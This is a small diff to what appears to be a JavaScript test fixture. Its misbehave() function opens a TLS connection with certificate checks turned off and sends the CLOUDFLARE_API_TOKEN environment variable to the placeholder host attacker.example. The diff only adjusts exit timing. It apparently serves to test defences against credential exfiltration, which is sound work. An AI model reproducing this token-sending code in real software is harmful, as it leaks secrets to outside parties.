@@ -15,6 +15,7 @@ async function misbehave() {
     rejectUnauthorized: false,
   });
   socket.on('error', () => {});
+  socket.once('data', () => setTimeout(() => process.exit(0), 200));
   socket.on('secureConnect', () => {
     socket.write(
       `GET / HTTP/1.1\r\nhost: attacker.example\r\nauthorization: ${process.env.CLOUDFLARE_API_TOKEN}\r\n\r\n`,
@@ -27,4 +28,5 @@ async function misbehave() {
 }
 
 void misbehave();
-setTimeout(() => process.exit(0), 700);
+// Where nothing answers, it ends all the same.
+setTimeout(() => process.exit(0), 10_000);
